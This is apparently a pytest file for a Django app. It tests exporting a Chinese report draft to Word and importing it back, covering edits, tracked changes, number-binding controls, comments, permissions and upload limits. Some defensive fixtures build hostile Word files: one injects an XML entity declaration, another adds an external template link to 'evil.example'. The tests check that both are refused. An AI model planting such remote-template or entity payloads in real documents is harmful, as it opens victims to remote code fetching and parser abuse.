"""A draft goes to Word and comes back: edits and bindings whole, what was broken named, nothing overwritten."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile

import docx
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx.oxml import parse_xml
from docx.oxml.ns import qn
from lxml import etree
from story import Story

from zhiheng.core.files.models import File
from zhiheng.core.problems import REFUSED, Problem
from zhiheng.documents.word_reading import WordRemark
from zhiheng.figures.reports import operations as reports
from zhiheng.figures.reports import round_trip
from zhiheng.figures.reports.gate import Status, examine_text
from zhiheng.figures.reports.problems import (
    NO_WORDS,
    NOT_OURS,
    OF_ANOTHER,
    SAVED_SINCE,
    WORD_UNREADABLE,
)

pytestmark = pytest.mark.django_db
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TEXT = """\
# 一、会员工作

会员活动参与率[达到50%](#b1)，全国[12项](#b2)措施，[365天](#b3)**如一日**。

- 第一项
    - 其中*一小项*
- 第二项

1. 参与率[50%](#b1)

# 二、下一步

继续努力。
"""


@pytest.fixture
def story():
    return Story()


@pytest.fixture
def report(story):
    return drafted(story)


def drafted(story, text=TEXT, language="zh"):
    report = reports.begin(by=story.by, line="members", title="工作报告", text=text, language=language)
    reports.bind_published(by=story.by, report=report, snapshot=story.number)
    reports.cite(by=story.by, report=report, source="公报", page="7")
    reports.mark(by=story.by, report=report, reason="习语")
    return report


def out(report):
    return docx.Document(io.BytesIO(round_trip.docx(report.versions.first())))


def packed(document):
    kept = io.BytesIO()
    document.save(kept)
    return kept.getvalue()


def bring(report, document):
    return round_trip.bring(report, document if isinstance(document, bytes) else packed(document))


def controls(document):
    return list(document.element.body.iter(qn("w:sdt")))


def tag(control):
    return control.find(f"{qn('w:sdtPr')}/{qn('w:tag')}")


def paragraph(document, words):
    [found] = [p for p in document.paragraphs if words in "".join(t.text for t in p._p.iter(qn("w:t")))]
    return found


def broken(brought):
    return [(each.what, each.words) for each in brought.broken]


def refused(rule, call, *given):
    with pytest.raises(Problem) as caught:
        call(*given)
    assert caught.value.rule is rule
    assert str(caught.value)


def rewritten(content, part, change):
    """The same file with one of its parts changed by hand."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(made, "w") as after:
        for name in before.namelist():
            held = before.read(name)
            after.writestr(name, change(held.decode()).encode() if name == part else held)
    return made.getvalue()


@pytest.mark.parametrize("language", ["zh", "en"])
def test_what_nobody_touched_comes_back_to_the_letter(story, language):
    report = drafted(story, language=language)
    brought = bring(report, round_trip.docx(report.versions.get()))
    assert (brought.title, brought.text) == ("工作报告", TEXT)
    assert (brought.broken, brought.left_out, brought.remarks) == ((), (), ())


def test_what_a_word_file_cannot_hold_stays_out_of_it_everywhere(story):
    text = "甲\x0b乙\uffff[50%](#b1)，[12项](#b2)。"
    report = reports.begin(by=story.by, line="members", title="工\x1b作\ufffe报告", text=text)
    reports.bind_published(by=story.by, report=report, snapshot=story.number)
    reports.cite(by=story.by, report=report, source="公\x08报\uffff", page="7")
    brought = bring(report, round_trip.docx(report.versions.get()))
    assert (brought.title, brought.text) == ("工作报告", "甲乙[50%](#b1)，[12项](#b2)。")
    assert brought.broken == ()


def test_each_marked_number_goes_out_in_a_control_that_says_what_it_stands_on(report):
    document = out(report)
    said = {
        (tag(each).get(qn("w:val"))[-2:], each.find(f"{qn('w:sdtPr')}/{qn('w:alias')}").get(qn("w:val")))
        for each in controls(document)
    }
    assert said == {("b1", "会员活动参与率 2018年"), ("b2", "公报 7"), ("b3", "习语")}
    assert len(controls(document)) == 4


def test_edits_come_back_with_their_marks_and_the_rest_keeps_its_source(report):
    document = out(report)
    paragraph(document, "继续努力").add_run("再接再厉*。")
    document.add_paragraph("新的一段", "Body Text")
    document.add_heading("三、附则", 2)
    moved = paragraph(document, "会员活动参与率")._p
    document.element.body.insert(len(document.element.body) - 1, moved)
    brought = bring(report, document)
    assert brought.broken == ()
    first = TEXT.split("\n\n")[1]
    stayed = TEXT.replace(f"{first}\n\n", "").strip()
    assert brought.text == f"{stayed}再接再厉*。\n\n新的一段\n\n## 三、附则\n\n{first}\n"


def test_tracked_changes_count_as_accepted(report):
    document = out(report)
    target = paragraph(document, "继续努力")
    run = target.runs[0]._r
    deleted = parse_xml(
        f'<w:del {W} w:id="900" w:author="x"><w:r><w:delText>继续努力</w:delText></w:r></w:del>'
    )
    added = parse_xml(f'<w:ins {W} w:id="901" w:author="x"><w:r><w:t>加倍努力</w:t></w:r></w:ins>')
    run.addprevious(deleted)
    run.addprevious(added)
    run.find(qn("w:t")).text = "。"
    brought = bring(report, document)
    assert brought.text == TEXT.replace("继续努力", "加倍努力")
    assert (brought.insertions, brought.deletions) == (1, 1)


def test_a_number_changed_inside_its_mark_is_judged_again(story, report):
    document = out(report)
    next(controls(document)[0].iter(qn("w:t"))).text = "超过50%"
    brought = bring(report, document)
    assert broken(brought) == [(round_trip.CHANGED, "达到50% → 超过50%")]
    assert "[超过50%](#b1)" in brought.text
    numbers = examine_text(brought.title, brought.text, report.bindings.all()).numbers
    assert [n.status for n in numbers if n.phrase == "超过50%"] == [Status.FALSE]


def test_a_mark_taken_off_leaves_its_number_without_ground(report):
    document = out(report)
    control = controls(document)[0]
    for run in list(control.iter(qn("w:r"))):
        control.addprevious(run)
    control.getparent().remove(control)
    brought = bring(report, document)
    assert broken(brought) == [(round_trip.REMOVED, "达到50%")]
    assert "会员活动参与率达到50%，" in brought.text
    numbers = examine_text(brought.title, brought.text, report.bindings.all()).numbers
    assert [n.phrase for n in numbers if n.status is Status.UNBOUND] == ["达到50%"]


def test_a_number_deleted_with_its_mark_is_named(report):
    document = out(report)
    control = controls(document)[1]
    control.getparent().remove(control)
    assert broken(bring(report, document)) == [(round_trip.GONE, "12项")]


def test_a_mark_that_was_copied_is_named_and_kept(report):
    document = out(report)
    copy = parse_xml(
        re.sub(r"<w:bookmark[^>]*>", "", etree.tostring(controls(document)[0], encoding="unicode"))
    )
    paragraph(document, "继续努力")._p.append(copy)
    brought = bring(report, document)
    assert broken(brought) == [(round_trip.COPIED, "达到50%")]
    assert brought.text.rstrip().endswith("继续努力。[达到50%](#b1)")


@pytest.mark.parametrize(
    ("name", "what"),
    [
        ("日期选取", round_trip.UNKNOWN),
        ("_zh_{own}_b9", round_trip.UNKNOWN),
        ("_zh_0123456789ab_b1", round_trip.FOREIGN),
    ],
)
def test_a_control_that_is_not_of_this_report_is_plain_words(report, name, what):
    document = out(report)
    control = controls(document)[2]
    own = tag(control).get(qn("w:val")).split("_")[2]
    tag(control).set(qn("w:val"), name.format(own=own))
    brought = bring(report, document)
    assert broken(brought) == [(what, "365天"), (round_trip.REMOVED, "365天")]
    assert "，365天" in brought.text


def test_the_title_goes_by_its_style(report):
    document = out(report)
    document.paragraphs[0].runs[0].text = "新标题"
    assert bring(report, document).title == "新标题"
    document.paragraphs[0].style = "Body Text"
    brought = bring(report, document)
    assert (brought.title, broken(brought)) == ("工作报告", [(round_trip.NO_TITLE, "工作报告")])
    assert brought.text.startswith("新标题\n\n# 一")
    again = out(report)
    again.add_paragraph("又一个", "Title")
    assert broken(bring(report, again)) == [(round_trip.TWO_TITLES, "又一个")]
    moved = out(report)
    moved.paragraphs[0]._p.append(controls(moved)[0])
    assert (round_trip.IN_TITLE, "达到50%") in broken(bring(report, moved))


def test_what_has_no_place_is_named_with_its_words(report):
    document = out(report)
    document.add_table(1, 1).cell(0, 0).text = "表中12家"
    document.sections[0].header.paragraphs[0].add_run("有人写在页眉")
    paragraph(document, "继续努力").runs[0].bold = True
    left = {each.what: each.text for each in bring(report, document).left_out}
    assert left["table"] == "表中12家"
    assert left["format"] == "1"
    assert "有人写在页眉" in left["margin"]
    assert left.keys() == {"table", "format", "margin"}


def test_a_comment_becomes_a_remark(client, story, report):
    document = out(report)
    target = paragraph(document, "继续努力")
    document.add_comment(target.runs, text="请<核实>", author="王五")
    content = packed(document)
    assert bring(report, content).remarks == (WordRemark("王五", "继续努力。", "请<核实>"),)
    page, address = handed_in(client, story, "alice", report, content)
    assert "请&lt;核实&gt;" in page
    assert client.post(address).status_code == 302
    remark = report.versions.first().comments.get()
    assert (remark.quote, remark.text) == ("继续努力。", "请<核实>（Word，王五）")


# ── whose file it is ──


def test_a_file_of_another_report_or_of_nobody_is_refused(story, report):
    other = drafted(story)
    content = round_trip.docx(report.versions.get())
    refused(OF_ANOTHER, bring, other, content)
    refused(NOT_OURS, bring, report, docx.Document())
    forged = rewritten(content, "docProps/custom.xml", lambda xml: xml.replace("<vt:lpwstr>", "<vt:lpwstr>x"))
    refused(NOT_OURS, bring, report, forged)
    empty = out(report)
    for one in list(empty.element.body.iter(qn("w:p")))[1:]:
        one.getparent().remove(one)
    refused(NO_WORDS, bring, report, empty)
    refused(WORD_UNREADABLE, bring, report, b"PK")


# ── the page ──


def handed_in(client, story, role, report, content, name="草稿.docx"):
    client.force_login(story.accounts[role], backend="zhiheng.core.sign_in.backend.Passwords")
    upload = SimpleUploadedFile(name, content)
    answer = client.post(reverse("word-hand-in", args=[report.pk]), {"file": upload})
    if answer.status_code != 302:
        return answer.content.decode(), answer.status_code
    address = answer.headers["Location"]
    return client.get(address).content.decode(), address


def test_it_is_looked_at_before_it_is_taken(client, story, report):
    document = out(report)
    next(controls(document)[0].iter(qn("w:t"))).text = "超过50%"
    paragraph(document, "继续努力").add_run("<b>走访400家。")
    page, address = handed_in(client, story, "alice", report, packed(document))
    assert report.versions.count() == 1
    assert "达到50% → 超过50%" in page
    assert "标记中的文字被改动" in page
    assert "<ins>继续努力。<mark>&lt;b&gt;走访400家。</mark></ins>" in page
    assert "2 个数字阻止发布" in page
    assert client.post(address).status_code == 302
    assert report.versions.first().number == 2
    assert "[超过50%](#b1)" in report.versions.first().text
    # a second time there is a newer version
    assert client.post(address).status_code == 409
    assert report.versions.count() == 2


def test_two_who_edit_do_not_overwrite_each_other(client, story, report):
    document = out(report)
    paragraph(document, "继续努力").add_run("甲。")
    reports.save(by=story.by, report=report, title="工作报告", text="别人写的", after=1)
    page, address = handed_in(client, story, "bob", report, packed(document))
    assert "已保存第 2 版" in page
    assert "保存为新版本" not in page.split('id="live"')[0]
    answer = client.post(address)
    assert answer.status_code == SAVED_SINCE.status
    assert report.versions.first().text == "别人写的"
    opened = client.post(
        reverse("change-draft", args=[report.pk, "preview"]),
        {"title": "工作报告", "text": bring(report, document).text},
    ).content.decode()
    assert "继续努力。甲。" in opened
    assert 'name="after" value="2"' in opened


def test_what_cannot_be_read_is_said_and_not_kept(client, story, report):
    good = round_trip.docx(report.versions.get())
    for content, name, said in (
        (b"hello", "a.docx", "不是 Word 文档"),
        (packed(docx.Document()), "a.docx", "不是从本系统下载的草稿"),
        (
            rewritten(good, "word/document.xml", entity),
            "a.docx",
            "实体",
        ),
        (rewritten(good, "word/_rels/document.xml.rels", template), "a.docx", "外部"),
        (good, "a.pdf", "文件名以"),
        (b"", "a.docx", ""),
    ):
        page, status = handed_in(client, story, "alice", report, content, name)
        assert status in {415, 422}, name
        assert said in page
        assert "继续努力" in page  # the draft is still on the page
    assert File.objects.count() == 0
    assert report.versions.count() == 1


def entity(xml):
    return xml.replace("<w:document", "<!DOCTYPE x [<!ENTITY a 'aaaa'>]><w:document", 1)


def template(xml):
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    more = f'<Relationship Id="r99" Type="{kind}" Target="http://evil.example/a.dotm" TargetMode="External"/>'
    return xml.replace("</Relationships>", f"{more}</Relationships>")


def test_a_request_of_500_mb_is_refused_before_it_is_read(client, story, report):
    client.force_login(story.accounts["alice"], backend="zhiheng.core.sign_in.backend.Passwords")
    answer = client.post(
        reverse("word-hand-in", args=[report.pk]), content_type="multipart/form-data; boundary=x", data=b"",
        CONTENT_LENGTH=str(500 * 2**20),
    )  # fmt: skip
    assert answer.status_code == 413


@pytest.mark.parametrize("role", ["rita", "oscar", "charlie", "erin"])
def test_who_does_not_write_the_report_brings_nothing_back(client, story, report, role):
    content = round_trip.docx(report.versions.get())
    _, status = handed_in(client, story, role, report, content)
    assert status == 403
    assert File.objects.count() == 0
    with pytest.raises(Problem) as caught:
        reports.take_back(
            by=story.accounts[role], report=report, title="秘密", text="秘密", after=1, remarks=[]
        )
    assert caught.value.rule is REFUSED
    assert report.versions.count() == 1


# ── through another program ──


@pytest.fixture(scope="module")
def office(tmp_path_factory):
    found = shutil.which("soffice")
    assert found, "The round trip needs LibreOffice. On Debian: apt-get install libreoffice-writer"
    profile = tmp_path_factory.mktemp("profile")

    def again(content, folder):
        (folder / "a.docx").write_bytes(content)
        subprocess.run(
            [found, "--headless", f"-env:UserInstallation=file://{profile}", "--convert-to", "docx",
             "--outdir", str(folder / "out"), str(folder / "a.docx")],
            check=True, capture_output=True, timeout=120,
        )  # fmt: skip
        return (folder / "out" / "a.docx").read_bytes()

    return again


@pytest.mark.sqlite
def test_saved_by_libreoffice_it_still_comes_back_to_the_letter(report, office, tmp_path):
    brought = bring(report, office(round_trip.docx(report.versions.get()), tmp_path))
    assert (brought.title, brought.text) == ("工作报告", TEXT)
    assert broken(brought) == []
    assert brought.left_out == ()


@pytest.mark.sqlite
def test_edited_and_saved_by_libreoffice_it_comes_back_with_its_marks(report, office, tmp_path):
    document = out(report)
    next(controls(document)[0].iter(qn("w:t"))).text = "超过50%"
    paragraph(document, "继续努力").add_run("再接再厉。")
    brought = bring(report, office(packed(document), tmp_path))
    assert broken(brought) == [(round_trip.CHANGED, "达到50% → 超过50%")]
    edited = {"[达到50%]": "[超过50%]", "努力。": "努力。再接再厉。", "**": ""}
    expected = TEXT
    for old, new in edited.items():
        expected = expected.replace(old, new)
    assert brought.text == expected
